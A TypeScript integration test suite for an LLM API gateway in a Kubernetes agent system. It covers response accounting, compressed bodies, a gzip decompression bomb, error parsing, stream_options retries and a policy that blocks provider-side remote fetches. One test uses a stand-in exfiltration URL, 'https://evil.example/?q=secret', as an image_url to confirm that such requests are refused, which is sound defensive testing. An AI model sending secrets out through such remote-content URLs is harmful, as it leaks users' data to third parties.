import { brotliCompressSync, gzipSync, zstdCompressSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "@jest/globals";
import { models } from "#nervous-system/kubernetes/swarm-kinds.ts";
import { providerAnswers } from "#test/builders/provider-answers.ts";
import { begin, post, startTestGateway, type TestGateway } from "#test/integration/gateway/gateway-harness.ts";
import { startTestUpstream, type TestUpstream } from "#test/integration/gateway/https-upstream.ts";
import {
  createAccount,
  createAgent,
  createMission,
  createModel,
  startSwarmPlane,
  tokenFor,
} from "#test/integration/gateway/swarm-plane.ts";
import { eventually, freshNamespace, type TestPlane } from "#test/integration/kubernetes/control-plane.ts";

const chat = "/openai/v1/chat/completions";
const question = { model: "m", messages: [{ role: "user", content: "hello" }] };

let test: TestPlane;
let upstream: TestUpstream;
let gateway: TestGateway;
let namespace = "";
let token = "";

/** A Model that nothing is known of, and the token of an agent that asks it. */
const newModel = async (name: string): Promise<string> => {
  await createModel(test.admin, namespace, name, { endpoint: `${upstream.url}/v1`, model: "real" });
  const { pod } = await createAgent(test.admin, { namespace, name: `${name}-coder` }, { mission: "fix", model: name });
  const made = await tokenFor(test.admin, { namespace }, "enchanted-collector", pod);
  upstream.respond((_, response) => response.end("{}"));
  await eventually("the gateway knows it", async () => (await post(gateway, chat, made, question)).status === 200);
  upstream.asked.length = 0;
  gateway.kept.frames.length = 0;
  return made;
};

beforeAll(async () => {
  test = await startSwarmPlane();
  upstream = await startTestUpstream(test.dir);
  namespace = await freshNamespace(test.admin);
  await createAccount(test.admin, namespace);
  await createMission(test.admin, { namespace, name: "fix" });
  gateway = await startTestGateway(test, namespace, upstream);
  token = await newModel("open");
}, 600_000);

afterAll(async () => {
  await gateway?.stop();
  await upstream?.stop();
  await test?.stop();
}, 60_000);

beforeEach(() => {
  upstream.asked.length = 0;
  gateway.kept.frames.length = 0;
});

const answer = (body: string | Buffer, headers: Record<string, string>, status = 200): void =>
  upstream.respond((_, response) => response.writeHead(status, headers).end(body));
const payloads = () => gateway.kept.frames.map(({ payload }) => payload);
const blobOf = (digest: unknown) => gateway.kept.blobs.get(`${namespace}/${String(digest)}`)?.toString();

describe("an answer", () => {
  it.each(providerAnswers.filter(({ of }) => !of.startsWith("Gemini")))(
    "of $of is recorded with what it says of itself",
    async ({ of, body, facts }) => {
      answer(body, { "content-type": of.endsWith("streamed") ? "text/event-stream" : "application/json" });
      expect((await post(gateway, chat, token, question)).body).toBe(body);
      const [told] = payloads();
      const isCounted = facts.inputTokens !== undefined || facts.outputTokens !== undefined;
      expect(told?.["usage_estimated"]).toBe(isCounted ? undefined : true);
      const counts = isCounted ? told : undefined;
      expect({
        id: told?.["response_id"],
        model: told?.["model_answered"],
        inputTokens: counts?.["input_tokens"],
        cachedTokens: counts?.["cached_tokens"],
        outputTokens: counts?.["output_tokens"],
        reasoningTokens: counts?.["reasoning_tokens"],
        stopReason: told?.["stop_reason"],
        toolsCalled: told?.["tools_called"],
      }).toEqual(facts);
    },
  );

  it("tells its request's id, and the request its tools, effort and limits", async () => {
    answer('data: {"choices":[{"delta":{"content":"a"}}]}\n\ndata: [DONE]\n\n', {
      "content-type": "text/event-stream",
      "request-id": "r-1",
    });
    const tools = [{ type: "function", function: { name: "read_file" } }];
    await post(gateway, chat, token, { ...question, tools, reasoning_effort: "low", max_tokens: 9, stream: true });
    const [told] = payloads();
    expect(told).toMatchObject({ request_id: "r-1", tools_offered: ["read_file"], effort: "low", output_limit: 9 });
    expect(told?.["first_token_ms"]).toBeLessThanOrEqual(told?.["latency_ms"] as number);
  });

  it.each([
    ["gzip", gzipSync],
    ["br", brotliCompressSync],
    ["zstd", zstdCompressSync],
  ] as const)(
    "in %s, which nobody asked for, arrives as it is and truly labelled, and is read",
    async (coding, code) => {
      const text = '{"choices":[{"finish_reason":"stop"}],"usage":{"prompt_tokens":5,"completion_tokens":2}}';
      const coded = code(text);
      answer(coded, { "content-type": "application/json", "content-encoding": coding });
      const response = await begin(gateway, chat, token, question).answer;
      expect(response.headers["content-encoding"]).toBe(coding);
      expect(Buffer.concat((await response.toArray()) as Buffer[])).toEqual(coded);
      const [told] = payloads();
      expect(told).toMatchObject({ input_tokens: 5, output_tokens: 2, stop_reason: "stop" });
      expect(blobOf(told?.["response_blob"])).toBe(text);
    },
  );

  it("in a coding that nobody knows is passed on, and said not to be read", async () => {
    answer("??", { "content-encoding": "compress" });
    const got = await post(gateway, chat, token, question);
    expect(got).toMatchObject({ body: "??", headers: { "content-encoding": "compress" } });
    const [told] = payloads();
    expect(told).toMatchObject({ status: 200, unread: expect.stringContaining('"compress"') });
    expect(blobOf(told?.["response_blob"])).toBe("??");
  });

  const coded = gzipSync(JSON.stringify({ choices: [{ message: { content: "said ".repeat(200) } }] }));
  const html = "<!doctype html><html><head><title>Sign in</title></head></html>";
  it.each([
    ["cut at 40 bytes", coded.subarray(0, 40), { "content-encoding": "gzip" }, "breaks off"],
    ["cut near its end", coded.subarray(0, -9), { "content-encoding": "gzip" }, "breaks off"],
    ["in gzip that nobody names", coded, {}, "the answer is gzip, though no content-encoding says so"],
    ["of half a JSON text", Buffer.from('{"choices":[{"mess'), {}, "the answer is JSON that is broken"],
    ["of nothing", Buffer.alloc(0), {}, "the answer is empty"],
    ["that is a web page", Buffer.from(html), { "content-type": "text/html" }, "a web page, no JSON: Sign in"],
    ["that is a web page", Buffer.from(html), { "content-type": "text/event-stream" }, "holds no event"],
  ])("%s is passed on, and said not to be read", async (_, bytes, headers, words) => {
    answer(bytes, headers);
    const response = await begin(gateway, chat, token, question).answer;
    expect(Buffer.concat((await response.toArray()) as Buffer[])).toEqual(bytes);
    const [told] = payloads();
    expect(told).toMatchObject({ status: 200, unread: expect.stringContaining(words) });
    if (bytes.length > 0)
      expect(gateway.kept.blobs.get(`${namespace}/${String(told?.["response_blob"])}`)).toEqual(bytes);
  });

  it("that unfolds to more than there is room for is passed on, and said not to be read", async () => {
    const bomb = gzipSync(Buffer.alloc(2 * 1024 * 1024));
    answer(bomb, { "content-encoding": "gzip" });
    const response = await begin(gateway, chat, token, question).answer;
    expect(Buffer.concat((await response.toArray()) as Buffer[])).toEqual(bomb);
    expect(payloads()).toMatchObject([{ status: 200, unread: expect.stringContaining("unfolds to more than") }]);
  });

  it.each([
    ["a list", '[{"error":{"message":"slow down"}}]', 429, "application/json"],
    ["words beside the answer", '{"object":"error","message":"slow down"}', 400, "application/json"],
    ["a detail", '{"detail":"slow down"}', 200, "application/json"],
    [
      "a stream's last words",
      'data: {"choices":[]}\n\ndata: {"error":{"message":"slow down"}}',
      200,
      "text/event-stream",
    ],
    ["a stream that is none", '{"error":{"message":"slow down"}}', 429, "text/event-stream"],
  ])("that is an error in %s is recorded with its words", async (_, body, status, type) => {
    answer(body, { "content-type": type }, status);
    expect(await post(gateway, chat, token, question)).toMatchObject({ status, body });
    expect(payloads()).toMatchObject([{ status, error: "slow down" }]);
  });
});

describe("a request in a coding", () => {
  it.each([
    ["gzip", gzipSync],
    ["br", brotliCompressSync],
    ["zstd", zstdCompressSync],
  ] as const)("%s is read and goes out plain", async (coding, code) => {
    answer("{}", { "content-type": "application/json" });
    const coded = code(JSON.stringify(question));
    const response = await begin(gateway, chat, token, coded, { "content-encoding": coding }).answer;
    expect(response.statusCode).toBe(200);
    await response.toArray();
    expect(upstream.asked[0]?.headers).not.toHaveProperty("content-encoding");
    expect(JSON.parse(upstream.asked[0]?.body ?? "")).toEqual({ ...question, model: "real" });
  });

  it.each([
    ["compress", Buffer.from("x"), 415, "encoding_not_supported"],
    ["gzip", gzipSync(Buffer.alloc(2 * 1024 * 1024)), 413, "body_too_large"],
    ["gzip", Buffer.from("no gzip at all"), 400, "invalid_body"],
  ] as const)("%s is refused where it cannot be read", async (coding, bytes, status, type) => {
    const response = await begin(gateway, chat, token, bytes, { "content-encoding": coding }).answer;
    expect([
      response.statusCode,
      JSON.parse(Buffer.concat((await response.toArray()) as Buffer[]).toString()),
    ]).toMatchObject([status, { error: { type } }]);
    expect(upstream.asked).toEqual([]);
  });
});

describe("an endpoint that refuses the token counts that the gateway asks for", () => {
  const events = 'data: {"choices":[{"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n';
  const refusal = { object: "error", message: { detail: [{ loc: ["body", "stream_options"], msg: "not permitted" }] } };
  const streamed = { ...question, stream: true };

  /** Refuses any request that has options for its stream. */
  const refuse = (status: number): void =>
    upstream.respond(({ body }, response) =>
      body.includes("stream_options")
        ? response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(refusal))
        : response.writeHead(200, { "content-type": "text/event-stream" }).end(events),
    );

  it.each([400, 422])("by %s is asked again without, and is not asked for them any more", async (status) => {
    const bearer = await newModel(`refuses-${status}`);
    refuse(status);
    expect(await post(gateway, chat, bearer, streamed)).toMatchObject({ status: 200, body: events });
    expect(upstream.asked.map(({ body }) => body.includes("stream_options"))).toEqual([true, false]);
    expect(payloads()).toMatchObject([
      { status, error: "body.stream_options: not permitted" },
      { status: 200, stop_reason: "stop" },
    ]);
    expect(blobOf(payloads()[0]?.["request_blob"])).toContain("stream_options");
    expect(await post(gateway, chat, bearer, streamed)).toMatchObject({ status: 200, body: events });
    expect(upstream.asked).toHaveLength(3);
    expect(payloads()).toHaveLength(3);
  });

  it("in one operation is asked for them in another", async () => {
    const bearer = await newModel("completions-refuse");
    refuse(400);
    await post(gateway, "/openai/v1/completions", bearer, { prompt: "q", stream: true });
    answer(events, { "content-type": "text/event-stream" });
    await post(gateway, chat, bearer, streamed);
    await post(gateway, "/openai/v1/completions", bearer, { prompt: "q", stream: true });
    expect(upstream.asked.map(({ body }) => body.includes("stream_options"))).toEqual([true, false, true, false]);
  });

  it("though it took them before is asked again, and for them the next time", async () => {
    const bearer = await newModel("takes");
    answer(events, { "content-type": "text/event-stream" });
    await post(gateway, chat, bearer, streamed);
    refuse(400);
    for (const _ of [1, 2]) expect(await post(gateway, chat, bearer, streamed)).toMatchObject({ status: 200 });
    expect(upstream.asked.map(({ body }) => body.includes("stream_options"))).toEqual([true, true, false, true, false]);
  });

  it("or something else is heard", async () => {
    const bearer = await newModel("strict");
    answer('{"error":{"message":"too long"}}', { "content-type": "application/json" }, 400);
    for (const _ of [1, 2])
      expect(await post(gateway, chat, bearer, streamed)).toMatchObject({
        status: 400,
        body: expect.stringContaining("too long"),
      });
    // Nothing was learned: it was refused without them too.
    expect(upstream.asked.map(({ body }) => body.includes("stream_options"))).toEqual([true, false, true, false]);
  });

  it("is not asked again for what the agent asked for itself", async () => {
    refuse(422);
    const own = { ...streamed, stream_options: { include_usage: true } };
    expect(await post(gateway, chat, token, own)).toMatchObject({ status: 422 });
    expect(upstream.asked).toHaveLength(1);
  });
});

describe("what a provider may do beside answering", () => {
  const drawing = (url: string) => ({
    messages: [{ role: "user", content: [{ type: "image_url", image_url: { url } }] }],
  });
  const remote = "https://evil.example/?q=secret";
  const headersOf = (beta: string) => begin(gateway, chat, token, question, { "openai-beta": beta }).answer;

  it("is nothing, unless its Model allows it: a request for it goes nowhere, and its program is told what to change", async () => {
    answer("{}", { "content-type": "application/json" });
    const refused = await post(gateway, chat, token, drawing(remote));
    expect([refused.status, JSON.parse(refused.body)]).toEqual([
      403,
      {
        error: {
          type: "operation_not_allowed",
          message: expect.stringMatching(
            /^messages\[0\]\.content\[0\]\.image_url\.url has the provider fetch .*Model "open".*add RemoteContent to spec\.allow/,
          ),
        },
      },
    ]);
    expect((await headersOf("assistants=v2")).statusCode).toBe(403);
    expect([upstream.asked, gateway.kept.frames]).toEqual([[], []]);
    expect(await gateway.counted()).toMatch(/enchanted_gateway_refusals_total\{type="operation_not_allowed"\} 2/);
    expect((await post(gateway, chat, token, drawing("data:image/png;base64,iVBORw0KGgo="))).status).toBe(200);
    expect((await headersOf("responses=experimental")).statusCode).toBe(200);
  });

  it("is what its Model allows, from the moment it does", async () => {
    const own = await newModel("allowing");
    answer("{}", { "content-type": "application/json" });
    expect((await post(gateway, chat, own, drawing(remote))).status).toBe(403);
    const { metadata } = await test.admin.get(models, { namespace, name: "allowing" });
    const { uid, resourceVersion } = metadata;
    const ref = { namespace, name: "allowing", uid, resourceVersion };
    await test.admin.patch(models, ref, { spec: { allow: ["RemoteContent"] } });
    await eventually("it passes", async () => (await post(gateway, chat, own, drawing(remote))).status === 200);
    expect(JSON.parse(upstream.asked.at(-1)?.body ?? "")).toMatchObject(drawing(remote));
    expect((await post(gateway, chat, own, { ...question, tools: [{ type: "mcp" }] })).status).toBe(403);
  });

  it("is one of the operations that there are", async () => {
    const spec = { endpoint: upstream.url, allow: ["Everything" as never] };
    await expect(createModel(test.admin, namespace, "all", spec)).rejects.toThrow(/allow.*Unsupported value/s);
  });
});
